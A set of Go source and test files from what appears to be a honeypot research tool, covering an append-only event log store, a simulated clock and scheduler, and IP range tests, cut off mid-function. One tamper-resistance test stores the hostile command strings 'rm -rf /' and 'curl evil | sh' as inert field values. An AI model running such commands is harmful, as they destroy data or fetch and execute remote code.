	if got := len(events[0].Field("body")); got != maxRecordedBody {
		t.Fatalf("captured %d bytes, want cap %d", got, maxRecordedBody)
	}
}
