package eslite

import (
	"fmt"
	"sync"
	"testing"
	"testing/quick"
	"time"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

var t0 = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)

func ev(offset time.Duration, typ string, fields map[string]string) Event {
	return Event{Time: t0.Add(offset), Type: typ, Fields: fields}
}

func TestSearchFilters(t *testing.T) {
	var s Store
	s.Append(ev(0, "http", map[string]string{"src": "a", "path": "/"}))
	s.Append(ev(time.Hour, "exec", map[string]string{"src": "a", "command": "id"}))
	s.Append(ev(2*time.Hour, "exec", map[string]string{"src": "b", "command": "ls"}))
	s.Append(ev(3*time.Hour, "restore", nil))

	if got := len(s.Search(Query{})); got != 4 {
		t.Fatalf("unfiltered search = %d events", got)
	}
	if got := len(s.Search(Query{Type: "exec"})); got != 2 {
		t.Fatalf("type filter = %d", got)
	}
	if got := len(s.Search(Query{Type: "exec", Match: map[string]string{"src": "a"}})); got != 1 {
		t.Fatalf("field filter = %d", got)
	}
	if got := len(s.Search(Query{From: t0.Add(time.Hour), To: t0.Add(3 * time.Hour)})); got != 2 {
		t.Fatalf("time range = %d", got)
	}
	// From is inclusive, To exclusive.
	if got := len(s.Search(Query{From: t0.Add(3 * time.Hour), To: t0.Add(3 * time.Hour)})); got != 0 {
		t.Fatalf("empty range = %d", got)
	}
}

func TestSearchSortsByTime(t *testing.T) {
	var s Store
	s.Append(ev(2*time.Hour, "exec", nil))
	s.Append(ev(0, "exec", nil))
	s.Append(ev(time.Hour, "exec", nil))
	events := s.Search(Query{Type: "exec"})
	for i := 1; i < len(events); i++ {
		if events[i].Time.Before(events[i-1].Time) {
			t.Fatal("results not time-sorted")
		}
	}
}

func TestCountMatchesSearch(t *testing.T) {
	var s Store
	for i := 0; i < 100; i++ {
		typ := "http"
		if i%3 == 0 {
			typ = "exec"
		}
		s.Append(ev(time.Duration(i)*time.Minute, typ, map[string]string{"i": fmt.Sprint(i % 5)}))
	}
	queries := []Query{
		{},
		{Type: "exec"},
		{Type: "http", Match: map[string]string{"i": "2"}},
		{From: t0.Add(30 * time.Minute)},
	}
	for _, q := range queries {
		if got, want := s.Count(q), len(s.Search(q)); got != want {
			t.Errorf("Count(%+v) = %d, Search = %d", q, got, want)
		}
	}
}

func TestAggregate(t *testing.T) {
	var s Store
	for i := 0; i < 10; i++ {
		app := "Hadoop"
		if i >= 7 {
			app = "Docker"
		}
		s.Append(ev(time.Duration(i)*time.Minute, "exec", map[string]string{"app": app}))
	}
	agg := s.Aggregate(Query{Type: "exec"}, "app")
	if agg["Hadoop"] != 7 || agg["Docker"] != 3 {
		t.Fatalf("aggregate = %v", agg)
	}
}

func TestConcurrentAppendAndQuery(t *testing.T) {
	var s Store
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				s.Append(ev(time.Duration(i)*time.Second, "exec", map[string]string{"w": fmt.Sprint(w)}))
				if i%10 == 0 {
					s.Count(Query{Type: "exec"})
				}
			}
		}(w)
	}
	wg.Wait()
	if got := s.Len(); got != 1600 {
		t.Fatalf("Len = %d, want 1600", got)
	}
}

// TestAppendOnlyProperty: appending never changes previously returned
// results (the tamper-resistance property of the central log).
func TestAppendOnlyProperty(t *testing.T) {
	f := func(n uint8) bool {
		var s Store
		for i := 0; i < int(n)%32+1; i++ {
			s.Append(ev(time.Duration(i)*time.Second, "exec", map[string]string{"i": fmt.Sprint(i)}))
		}
		before := s.Search(Query{Type: "exec"})
		s.Append(ev(time.Hour, "exec", map[string]string{"i": "new"}))
		after := s.Search(Query{Type: "exec"})
		if len(after) != len(before)+1 {
			return false
		}
		for i := range before {
			if before[i].Fields["i"] != after[i].Fields["i"] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestNilFieldsNormalized(t *testing.T) {
	var s Store
	s.Append(Event{Time: t0, Type: "x"})
	events := s.Search(Query{Type: "x"})
	if events[0].Fields == nil {
		t.Fatal("nil Fields must be normalized to an empty map")
	}
	if events[0].Field("missing") != "" {
		t.Fatal("missing field must read as empty")
	}
}

// TestFieldsDefensivelyCopied locks in the append-only guarantee at the
// map level: neither a shipper mutating its Fields map after Append nor a
// reader mutating a Search result may alter the stored history.
func TestFieldsDefensivelyCopied(t *testing.T) {
	var s Store

	// Writer-side: mutate the map after Append.
	fields := map[string]string{"src": "attacker", "command": "id"}
	s.Append(ev(0, "exec", fields))
	fields["command"] = "rm -rf /"
	fields["forged"] = "yes"

	got := s.Search(Query{Type: "exec"})
	if len(got) != 1 {
		t.Fatalf("Search = %d events, want 1", len(got))
	}
	if got[0].Field("command") != "id" || got[0].Field("forged") != "" {
		t.Fatalf("writer-side mutation leaked into store: %v", got[0].Fields)
	}

	// Reader-side: mutate a result and re-query.
	got[0].Fields["command"] = "curl evil | sh"
	delete(got[0].Fields, "src")
	again := s.Search(Query{Type: "exec"})
	if again[0].Field("command") != "id" || again[0].Field("src") != "attacker" {
		t.Fatalf("reader-side mutation leaked into store: %v", again[0].Fields)
	}

	// Aggregate must see the unmodified history too.
	if agg := s.Aggregate(Query{Type: "exec"}, "command"); agg["id"] != 1 || len(agg) != 1 {
		t.Fatalf("Aggregate saw mutated fields: %v", agg)
	}
}

// TestInstrumentTracksIngestion checks the store's telemetry handles.
func TestInstrumentTracksIngestion(t *testing.T) {
	var s Store
	s.Append(ev(0, "http", nil))

	reg := telemetry.New(simtime.NewSim(t0))
	s.Instrument(reg)
	if got := reg.GaugeValue("mavscan_eslite_store_size"); got != 1 {
		t.Fatalf("size gauge after late Instrument = %d, want 1", got)
	}
	s.Append(ev(time.Hour, "exec", nil))
	s.Append(ev(2*time.Hour, "exec", nil))
	if got := reg.CounterValue("mavscan_eslite_events_total"); got != 2 {
		t.Fatalf("events counter = %d, want 2 (post-instrument appends)", got)
	}
	if got := reg.GaugeValue("mavscan_eslite_store_size"); got != 3 {
		t.Fatalf("size gauge = %d, want 3", got)
	}
}
