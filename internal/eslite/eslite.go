// Package eslite is the central, append-only, indexed log store of the
// honeypot deployment — the role ElasticSearch plays in the paper's setup.
// All honeypots ship their monitoring events here; an attacker who owns a
// honeypot cannot rewrite history because the store exposes no update or
// delete operation.
package eslite

import (
	"sort"
	"sync"
	"time"
)

// Event is one monitoring record.
type Event struct {
	// Time is the event timestamp (simulated time in studies).
	Time time.Time
	// Type is the event class, e.g. "http" (Packetbeat) or "exec"
	// (Auditbeat).
	Type string
	// Fields carries the typed payload flattened to strings.
	Fields map[string]string
}

// Field returns a field value, "" if absent.
func (e Event) Field(k string) string { return e.Fields[k] }

// Query filters events.
type Query struct {
	// Type restricts to one event class ("" = all).
	Type string
	// Match requires exact equality on every listed field.
	Match map[string]string
	// From (inclusive) and To (exclusive) bound the time range; zero
	// values disable the bound.
	From, To time.Time
}

func (q Query) matches(e Event) bool {
	if q.Type != "" && e.Type != q.Type {
		return false
	}
	if !q.From.IsZero() && e.Time.Before(q.From) {
		return false
	}
	if !q.To.IsZero() && !e.Time.Before(q.To) {
		return false
	}
	for k, v := range q.Match {
		if e.Fields[k] != v {
			return false
		}
	}
	return true
}

// Store is the append-only event store. The zero value is ready to use.
type Store struct {
	mu     sync.RWMutex
	events []Event
	byType map[string][]int
}

// Append adds one event. Events may arrive out of order; queries sort.
func (s *Store) Append(e Event) {
	if e.Fields == nil {
		e.Fields = map[string]string{}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.byType == nil {
		s.byType = make(map[string][]int)
	}
	s.events = append(s.events, e)
	s.byType[e.Type] = append(s.byType[e.Type], len(s.events)-1)
}

// Len returns the total number of stored events.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.events)
}

// Search returns all events matching q, sorted by time (stable on insert
// order for equal timestamps).
func (s *Store) Search(q Query) []Event {
	s.mu.RLock()
	var out []Event
	if q.Type != "" {
		for _, idx := range s.byType[q.Type] {
			if q.matches(s.events[idx]) {
				out = append(out, s.events[idx])
			}
		}
	} else {
		for _, e := range s.events {
			if q.matches(e) {
				out = append(out, e)
			}
		}
	}
	s.mu.RUnlock()
	sort.SliceStable(out, func(i, j int) bool { return out[i].Time.Before(out[j].Time) })
	return out
}

// Count returns the number of events matching q.
func (s *Store) Count(q Query) int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	n := 0
	if q.Type != "" {
		for _, idx := range s.byType[q.Type] {
			if q.matches(s.events[idx]) {
				n++
			}
		}
		return n
	}
	for _, e := range s.events {
		if q.matches(e) {
			n++
		}
	}
	return n
}

// Aggregate groups matching events by the value of field and returns the
// per-value counts — the terms-aggregation used by the analysis queries.
func (s *Store) Aggregate(q Query, field string) map[string]int {
	out := map[string]int{}
	for _, e := range s.Search(q) {
		out[e.Fields[field]]++
	}
	return out
}
