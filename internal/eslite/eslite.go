// Package eslite is the central, append-only, indexed log store of the
// honeypot deployment — the role ElasticSearch plays in the paper's setup.
// All honeypots ship their monitoring events here; an attacker who owns a
// honeypot cannot rewrite history because the store exposes no update or
// delete operation.
package eslite

import (
	"sort"
	"sync"
	"time"

	"mavscan/internal/telemetry"
)

// Event is one monitoring record.
type Event struct {
	// Time is the event timestamp (simulated time in studies).
	Time time.Time
	// Type is the event class, e.g. "http" (Packetbeat) or "exec"
	// (Auditbeat).
	Type string
	// Fields carries the typed payload flattened to strings.
	Fields map[string]string
}

// Field returns a field value, "" if absent.
func (e Event) Field(k string) string { return e.Fields[k] }

// Query filters events.
type Query struct {
	// Type restricts to one event class ("" = all).
	Type string
	// Match requires exact equality on every listed field.
	Match map[string]string
	// From (inclusive) and To (exclusive) bound the time range; zero
	// values disable the bound.
	From, To time.Time
}

func (q Query) matches(e Event) bool {
	if q.Type != "" && e.Type != q.Type {
		return false
	}
	if !q.From.IsZero() && e.Time.Before(q.From) {
		return false
	}
	if !q.To.IsZero() && !e.Time.Before(q.To) {
		return false
	}
	for k, v := range q.Match {
		if e.Fields[k] != v {
			return false
		}
	}
	return true
}

// Store is the append-only event store. The zero value is ready to use.
type Store struct {
	mu     sync.RWMutex
	events []Event
	byType map[string][]int

	// Telemetry handles; nil handles no-op, so the zero-value Store stays
	// ready to use without instrumentation.
	telEvents *telemetry.Counter
	telSize   *telemetry.Gauge
}

// Instrument registers the store's ingestion metrics with reg (nil = off).
func (s *Store) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.telEvents = reg.Counter("mavscan_eslite_events_total")
	s.telSize = reg.Gauge("mavscan_eslite_store_size")
	s.telSize.Set(int64(len(s.events)))
}

// cloneFields returns an independent copy of fields (never nil). The store
// copies on both ingest and query so that neither a shipper mutating its
// map after Append nor a reader mutating a result can corrupt the
// append-only history.
func cloneFields(fields map[string]string) map[string]string {
	out := make(map[string]string, len(fields))
	for k, v := range fields {
		out[k] = v
	}
	return out
}

// Append adds one event. Events may arrive out of order; queries sort.
// The event's Fields map is copied, so the caller may reuse it.
func (s *Store) Append(e Event) {
	e.Fields = cloneFields(e.Fields)
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.byType == nil {
		s.byType = make(map[string][]int)
	}
	s.events = append(s.events, e)
	s.byType[e.Type] = append(s.byType[e.Type], len(s.events)-1)
	s.telEvents.Inc()
	s.telSize.Set(int64(len(s.events)))
}

// Len returns the total number of stored events.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.events)
}

// scan calls fn for every stored event matching q, under the read lock and
// without copying. Read-only internal helper backing the query methods.
func (s *Store) scan(q Query, fn func(Event)) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if q.Type != "" {
		for _, idx := range s.byType[q.Type] {
			if q.matches(s.events[idx]) {
				fn(s.events[idx])
			}
		}
		return
	}
	for _, e := range s.events {
		if q.matches(e) {
			fn(e)
		}
	}
}

// Search returns all events matching q, sorted by time (stable on insert
// order for equal timestamps). Each result carries its own copy of Fields;
// mutating it does not affect the store.
func (s *Store) Search(q Query) []Event {
	var out []Event
	s.scan(q, func(e Event) {
		e.Fields = cloneFields(e.Fields)
		out = append(out, e)
	})
	sort.SliceStable(out, func(i, j int) bool { return out[i].Time.Before(out[j].Time) })
	return out
}

// Count returns the number of events matching q.
func (s *Store) Count(q Query) int {
	n := 0
	s.scan(q, func(Event) { n++ })
	return n
}

// Aggregate groups matching events by the value of field and returns the
// per-value counts — the terms-aggregation used by the analysis queries.
func (s *Store) Aggregate(q Query, field string) map[string]int {
	out := map[string]int{}
	s.scan(q, func(e Event) { out[e.Fields[field]]++ })
	return out
}
