// Package simtime provides a simulated clock and a discrete event scheduler.
//
// The paper's longitudinal experiments (a four-week observer loop with
// three-hour re-scans, and a four-week honeypot exposure) are replayed on a
// simulated timeline so they run in milliseconds while preserving the exact
// temporal structure of the study.
package simtime

import (
	"container/heap"
	"fmt"
	"sync"
	"time"
)

// Clock is the minimal clock dependency used throughout the code base. The
// real implementation is the wall clock; tests and studies use *Sim.
type Clock interface {
	Now() time.Time
}

// Sleeper extends Clock with real-goroutine waiting. It is the injection
// point for code that must pace itself in wall time (rate limiters,
// simulated link latency): production uses Wall, tests substitute an
// instant fake so paced paths stay fast and deterministic.
//
// *Sim intentionally does not implement Sleeper — simulated experiments
// advance time through the event queue, never by blocking a goroutine.
type Sleeper interface {
	Clock
	// After returns a channel that delivers the current time once d has
	// elapsed, like time.After.
	After(d time.Duration) <-chan time.Time
}

// Wall is the wall clock. It is the only place in the code base allowed
// to touch the time package's ambient clock (enforced by the simclock
// lint rule).
type Wall struct{}

// Now returns the current wall-clock time.
func (Wall) Now() time.Time { return time.Now() }

// After waits in real time, like time.After.
func (Wall) After(d time.Duration) <-chan time.Time { return time.After(d) }

// AfterFunc schedules f after d on a runtime timer and returns its stop
// function. Unlike After, no goroutine waits and a stopped timer leaves
// the timer heap immediately — the cheap path for high-frequency
// schedule-then-usually-cancel uses like per-connection watchdogs.
func (Wall) AfterFunc(d time.Duration, f func()) (stop func()) {
	t := time.AfterFunc(d, f)
	return func() { t.Stop() }
}

// Immediate returns a Sleeper that reads Now from clock but whose After
// channels are already fired: a receive completes instantly, carrying the
// clock's current time. It makes wait-shaped code (backoff loops, pacing)
// run at full speed under the simulated clock — the wait durations remain
// observable (e.g. recorded in telemetry) while no goroutine ever blocks,
// which would deadlock a discrete-event Sim timeline.
func Immediate(clock Clock) Sleeper { return immediate{clock} }

type immediate struct{ Clock }

func (i immediate) After(time.Duration) <-chan time.Time {
	ch := make(chan time.Time, 1)
	ch <- i.Now()
	return ch
}

// event is one scheduled callback.
type event struct {
	at  time.Time
	seq int64 // tie-break so equal timestamps run in schedule order
	fn  func(now time.Time)
}

type eventQueue []*event

func (q eventQueue) Len() int { return len(q) }
func (q eventQueue) Less(i, j int) bool {
	if !q[i].at.Equal(q[j].at) {
		return q[i].at.Before(q[j].at)
	}
	return q[i].seq < q[j].seq
}
func (q eventQueue) Swap(i, j int)       { q[i], q[j] = q[j], q[i] }
func (q *eventQueue) Push(x interface{}) { *q = append(*q, x.(*event)) }
func (q *eventQueue) Pop() interface{} {
	old := *q
	n := len(old)
	e := old[n-1]
	old[n-1] = nil
	*q = old[:n-1]
	return e
}

// Sim is a simulated clock with a discrete event queue. The zero value is
// not usable; construct with NewSim.
type Sim struct {
	mu    sync.Mutex
	now   time.Time
	seq   int64
	queue eventQueue
}

// NewSim returns a simulated clock starting at the given instant.
func NewSim(start time.Time) *Sim {
	return &Sim{now: start}
}

// Now returns the current simulated time.
func (s *Sim) Now() time.Time {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.now
}

// At schedules fn to run when the simulated clock reaches t. Scheduling in
// the past (or present) runs the callback at the next Advance/Run step.
func (s *Sim) At(t time.Time, fn func(now time.Time)) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.seq++
	heap.Push(&s.queue, &event{at: t, seq: s.seq, fn: fn})
}

// After schedules fn to run d after the current simulated time.
func (s *Sim) After(d time.Duration, fn func(now time.Time)) {
	s.At(s.Now().Add(d), fn)
}

// Every schedules fn at t0, t0+d, t0+2d, ... until (but not including) end.
// When the last desired tick falls exactly on the window end, the exclusive
// bound drops it; use EveryN to schedule by tick count instead of padding
// end with a fudge term.
func (s *Sim) Every(t0 time.Time, d time.Duration, end time.Time, fn func(now time.Time)) {
	if d <= 0 {
		panic(fmt.Sprintf("simtime: non-positive period %v", d))
	}
	for t := t0; t.Before(end); t = t.Add(d) {
		s.At(t, fn)
	}
}

// EveryN schedules fn at exactly n instants: t0, t0+d, ..., t0+(n-1)d.
// It is the tick-count form of Every for callers that know how many ticks
// they want (an observation window of duration D at cadence d has exactly
// D/d ticks), avoiding the off-by-one hazards of an exclusive end bound.
func (s *Sim) EveryN(t0 time.Time, d time.Duration, n int, fn func(now time.Time)) {
	if d <= 0 {
		panic(fmt.Sprintf("simtime: non-positive period %v", d))
	}
	t := t0
	for i := 0; i < n; i++ {
		s.At(t, fn)
		t = t.Add(d)
	}
}

// pop removes and returns the earliest pending event at or before limit.
func (s *Sim) pop(limit time.Time) (*event, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.queue) == 0 || s.queue[0].at.After(limit) {
		return nil, false
	}
	return heap.Pop(&s.queue).(*event), true
}

// Advance moves the clock forward by d, running every event that falls due,
// in timestamp order. Callbacks may schedule further events; those are also
// run if they fall within the window.
func (s *Sim) Advance(d time.Duration) {
	s.AdvanceTo(s.Now().Add(d))
}

// AdvanceTo moves the clock to t (which must not be in the past), running
// all events due up to and including t.
func (s *Sim) AdvanceTo(t time.Time) {
	if t.Before(s.Now()) {
		panic("simtime: AdvanceTo into the past")
	}
	for {
		e, ok := s.pop(t)
		if !ok {
			break
		}
		s.mu.Lock()
		if e.at.After(s.now) {
			s.now = e.at
		}
		s.mu.Unlock()
		e.fn(e.at)
	}
	s.mu.Lock()
	s.now = t
	s.mu.Unlock()
}

// Run drains the event queue completely, advancing the clock to each event's
// timestamp. It returns the final simulated time.
func (s *Sim) Run() time.Time {
	for {
		s.mu.Lock()
		if len(s.queue) == 0 {
			now := s.now
			s.mu.Unlock()
			return now
		}
		limit := s.queue[0].at
		s.mu.Unlock()
		s.AdvanceTo(limit)
	}
}

// Pending returns the number of queued events.
func (s *Sim) Pending() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.queue)
}
