package simtime

import (
	"testing"
	"time"
)

var t0 = time.Date(2021, 4, 2, 0, 0, 0, 0, time.UTC)

func TestEveryNSchedulesExactTickCount(t *testing.T) {
	s := NewSim(t0)
	var fired []time.Time
	interval := 3 * time.Hour
	duration := 12 * time.Hour
	n := int(duration / interval)
	s.EveryN(t0.Add(interval), interval, n, func(now time.Time) {
		fired = append(fired, now)
	})
	s.Run()
	if len(fired) != 4 {
		t.Fatalf("%d ticks, want exactly duration/interval = 4", len(fired))
	}
	if got, want := fired[0], t0.Add(3*time.Hour); !got.Equal(want) {
		t.Errorf("first tick at %v, want %v", got, want)
	}
	if got, want := fired[3], t0.Add(duration); !got.Equal(want) {
		t.Errorf("last tick at %v, want %v (landing on the window end)", got, want)
	}
}

func TestEveryNZeroTicks(t *testing.T) {
	s := NewSim(t0)
	s.EveryN(t0.Add(time.Hour), time.Hour, 0, func(time.Time) {
		t.Error("no tick should fire for n=0")
	})
	s.Run()
}

// TestEveryExcludesEndpoint pins the behavior EveryN exists to avoid: an
// exclusive end bound drops a last tick landing exactly on the window end.
func TestEveryExcludesEndpoint(t *testing.T) {
	s := NewSim(t0)
	fired := 0
	s.Every(t0.Add(time.Hour), time.Hour, t0.Add(4*time.Hour), func(time.Time) { fired++ })
	s.Run()
	if fired != 3 {
		t.Fatalf("Every fired %d ticks, want 3 (end-exclusive)", fired)
	}
}

func TestImmediateSleeperDeliversInstantly(t *testing.T) {
	s := NewSim(t0)
	sl := Immediate(s)
	select {
	case got := <-sl.After(time.Hour):
		if !got.Equal(t0) {
			t.Errorf("After delivered %v, want the clock's current time %v", got, t0)
		}
	default:
		t.Fatal("Immediate.After must be ready without blocking")
	}
	if !sl.Now().Equal(t0) {
		t.Errorf("Now = %v, want %v", sl.Now(), t0)
	}
}
