package simtime

import (
	"testing"
	"testing/quick"
	"time"
)

var epoch = time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)

func TestAdvanceRunsDueEventsInOrder(t *testing.T) {
	s := NewSim(epoch)
	var order []int
	s.At(epoch.Add(2*time.Hour), func(time.Time) { order = append(order, 2) })
	s.At(epoch.Add(1*time.Hour), func(time.Time) { order = append(order, 1) })
	s.At(epoch.Add(3*time.Hour), func(time.Time) { order = append(order, 3) })
	s.Advance(2 * time.Hour)
	if len(order) != 2 || order[0] != 1 || order[1] != 2 {
		t.Fatalf("order = %v, want [1 2]", order)
	}
	if got := s.Now(); !got.Equal(epoch.Add(2 * time.Hour)) {
		t.Fatalf("Now = %v", got)
	}
	s.Run()
	if len(order) != 3 || order[2] != 3 {
		t.Fatalf("after Run order = %v", order)
	}
}

func TestEqualTimestampsRunInScheduleOrder(t *testing.T) {
	s := NewSim(epoch)
	var order []int
	at := epoch.Add(time.Hour)
	for i := 0; i < 10; i++ {
		i := i
		s.At(at, func(time.Time) { order = append(order, i) })
	}
	s.Run()
	for i, v := range order {
		if v != i {
			t.Fatalf("tie-break violated: %v", order)
		}
	}
}

func TestCallbackMaySchedule(t *testing.T) {
	s := NewSim(epoch)
	var fired []string
	s.After(time.Hour, func(now time.Time) {
		fired = append(fired, "first")
		s.After(30*time.Minute, func(time.Time) {
			fired = append(fired, "nested")
		})
	})
	// Advancing past both instants must run the nested event too.
	s.Advance(2 * time.Hour)
	if len(fired) != 2 || fired[1] != "nested" {
		t.Fatalf("fired = %v", fired)
	}
}

func TestCallbackSeesEventTime(t *testing.T) {
	s := NewSim(epoch)
	var seen time.Time
	target := epoch.Add(90 * time.Minute)
	s.At(target, func(now time.Time) { seen = now })
	s.Advance(3 * time.Hour)
	if !seen.Equal(target) {
		t.Fatalf("callback saw %v, want %v", seen, target)
	}
}

func TestEverySchedulesPeriodically(t *testing.T) {
	s := NewSim(epoch)
	count := 0
	s.Every(epoch.Add(time.Hour), time.Hour, epoch.Add(5*time.Hour), func(time.Time) { count++ })
	if s.Pending() != 4 {
		t.Fatalf("Pending = %d, want 4 (1h,2h,3h,4h)", s.Pending())
	}
	s.Run()
	if count != 4 {
		t.Fatalf("count = %d, want 4", count)
	}
}

func TestEveryPanicsOnNonPositivePeriod(t *testing.T) {
	s := NewSim(epoch)
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	s.Every(epoch, 0, epoch.Add(time.Hour), func(time.Time) {})
}

func TestAdvanceToPastPanics(t *testing.T) {
	s := NewSim(epoch)
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	s.AdvanceTo(epoch.Add(-time.Second))
}

func TestRunReturnsFinalTime(t *testing.T) {
	s := NewSim(epoch)
	last := epoch.Add(17 * time.Hour)
	s.At(epoch.Add(3*time.Hour), func(time.Time) {})
	s.At(last, func(time.Time) {})
	if got := s.Run(); !got.Equal(last) {
		t.Fatalf("Run returned %v, want %v", got, last)
	}
	if s.Pending() != 0 {
		t.Fatalf("Pending = %d after Run", s.Pending())
	}
}

// TestEventOrderProperty: however events are scheduled, execution is
// sorted by timestamp.
func TestEventOrderProperty(t *testing.T) {
	f := func(offsets []uint16) bool {
		if len(offsets) == 0 {
			return true
		}
		s := NewSim(epoch)
		var fired []time.Time
		for _, off := range offsets {
			at := epoch.Add(time.Duration(off) * time.Second)
			s.At(at, func(now time.Time) { fired = append(fired, now) })
		}
		s.Run()
		if len(fired) != len(offsets) {
			return false
		}
		for i := 1; i < len(fired); i++ {
			if fired[i].Before(fired[i-1]) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}
