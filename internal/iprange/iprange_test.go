package iprange

import (
	"math/rand"
	"net/netip"
	"testing"
	"testing/quick"
)

func mustSet(t *testing.T, cidrs ...string) *Set {
	t.Helper()
	prefixes := make([]netip.Prefix, len(cidrs))
	for i, c := range cidrs {
		prefixes[i] = netip.MustParsePrefix(c)
	}
	s, err := FromPrefixes(prefixes)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestFromPrefixesMergesOverlappingAndAdjacent(t *testing.T) {
	cases := []struct {
		name       string
		cidrs      []string
		wantRanges int
		wantAddrs  uint64
	}{
		{"disjoint", []string{"10.0.0.0/24", "10.2.0.0/24"}, 2, 512},
		{"adjacent", []string{"10.0.0.0/24", "10.0.1.0/24"}, 1, 512},
		{"overlapping", []string{"10.0.0.0/23", "10.0.1.0/24"}, 1, 512},
		{"nested", []string{"10.0.0.0/16", "10.0.4.0/24"}, 1, 1 << 16},
		{"duplicate", []string{"10.0.0.0/24", "10.0.0.0/24"}, 1, 256},
		{"chain collapses", []string{"10.0.2.0/24", "10.0.0.0/24", "10.0.1.0/24"}, 1, 768},
		{"host bits masked", []string{"10.0.0.77/24"}, 1, 256},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := mustSet(t, c.cidrs...)
			if s.NumRanges() != c.wantRanges {
				t.Errorf("NumRanges = %d, want %d (%v)", s.NumRanges(), c.wantRanges, s.Ranges())
			}
			if s.NumAddresses() != c.wantAddrs {
				t.Errorf("NumAddresses = %d, want %d", s.NumAddresses(), c.wantAddrs)
			}
		})
	}
}

func TestFromPrefixesRejectsIPv6(t *testing.T) {
	_, err := FromPrefixes([]netip.Prefix{netip.MustParsePrefix("2001:db8::/64")})
	if err == nil {
		t.Fatal("IPv6 prefix must be rejected")
	}
}

func TestSubtractExcludeFullyCoversTarget(t *testing.T) {
	targets := mustSet(t, "10.0.4.0/24")
	exclude := mustSet(t, "10.0.0.0/16")
	got := targets.Subtract(exclude)
	if !got.Empty() {
		t.Fatalf("exclude covering the whole target must yield the empty set, got %v", got.Ranges())
	}
	if got.NumAddresses() != 0 {
		t.Fatalf("NumAddresses = %d, want 0", got.NumAddresses())
	}
}

func TestSubtractExcludeStraddlesTwoTargets(t *testing.T) {
	// Two adjacent /25 targets expressed as separate prefixes would merge;
	// use genuinely disjoint targets with an exclusion spanning the tail of
	// the first and the head of the second.
	targets := mustSet(t, "10.0.0.0/24", "10.0.2.0/24")
	exclude := mustSet(t, "10.0.0.128/25", "10.0.2.0/25")
	got := targets.Subtract(exclude)
	if got.NumRanges() != 2 {
		t.Fatalf("NumRanges = %d, want 2 (%v)", got.NumRanges(), got.Ranges())
	}
	if got.NumAddresses() != 256 {
		t.Fatalf("NumAddresses = %d, want 256", got.NumAddresses())
	}
	for _, ip := range []string{"10.0.0.0", "10.0.0.127", "10.0.2.128", "10.0.2.255"} {
		if !got.Contains(netip.MustParseAddr(ip)) {
			t.Errorf("%s should survive the subtraction", ip)
		}
	}
	for _, ip := range []string{"10.0.0.128", "10.0.0.255", "10.0.2.0", "10.0.2.127", "10.0.1.1"} {
		if got.Contains(netip.MustParseAddr(ip)) {
			t.Errorf("%s should be excluded", ip)
		}
	}
}

func TestSubtractMiddleSplitsRange(t *testing.T) {
	targets := mustSet(t, "10.0.0.0/24")
	exclude := mustSet(t, "10.0.0.64/26")
	got := targets.Subtract(exclude)
	if got.NumRanges() != 2 || got.NumAddresses() != 192 {
		t.Fatalf("got %d ranges / %d addrs, want 2 / 192: %v", got.NumRanges(), got.NumAddresses(), got.Ranges())
	}
}

func TestIntersect(t *testing.T) {
	a := mustSet(t, "10.0.0.0/24", "10.0.2.0/24")
	b := mustSet(t, "10.0.0.128/25", "10.0.1.0/24", "10.0.2.0/26")
	got := a.Intersect(b)
	if got.NumAddresses() != 128+64 {
		t.Fatalf("NumAddresses = %d, want 192: %v", got.NumAddresses(), got.Ranges())
	}
}

func TestFlatIndexAddressing(t *testing.T) {
	s := mustSet(t, "10.0.0.0/30", "192.168.1.0/31")
	if s.NumAddresses() != 6 {
		t.Fatalf("NumAddresses = %d, want 6", s.NumAddresses())
	}
	wants := []string{"10.0.0.0", "10.0.0.1", "10.0.0.2", "10.0.0.3", "192.168.1.0", "192.168.1.1"}
	var cur Cursor
	for i, w := range wants {
		if got := s.AddrAt(uint64(i), &cur).String(); got != w {
			t.Errorf("AddrAt(%d) = %s, want %s", i, got, w)
		}
	}
	// Random-access pattern with a stale cursor must agree with Addr.
	for _, idx := range []uint64{5, 0, 4, 2, 5, 1} {
		if got, want := s.AddrAt(idx, &cur), s.Addr(idx); got != want {
			t.Errorf("AddrAt(%d) = %s, want %s", idx, got, want)
		}
	}
}

func TestFullSpaceRepresentable(t *testing.T) {
	s := mustSet(t, "0.0.0.0/0")
	if s.NumAddresses() != 1<<32 {
		t.Fatalf("NumAddresses = %d, want 2^32", s.NumAddresses())
	}
	if got := s.Addr(1<<32 - 1).String(); got != "255.255.255.255" {
		t.Fatalf("last address = %s", got)
	}
	if !s.Subtract(s).Empty() {
		t.Fatal("full space minus itself must be empty")
	}
}

// randomPrefixes draws n prefixes inside 10.0.0.0/8 with lengths in
// [16, 30], the shapes the scanner actually sees.
func randomPrefixes(rng *rand.Rand, n int) []netip.Prefix {
	out := make([]netip.Prefix, n)
	for i := range out {
		bits := 16 + rng.Intn(15)
		v := uint32(10)<<24 | uint32(rng.Intn(1<<16))<<8 | uint32(rng.Intn(256))
		mask := ^uint32(0) << (32 - bits)
		v &= mask
		addr := netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
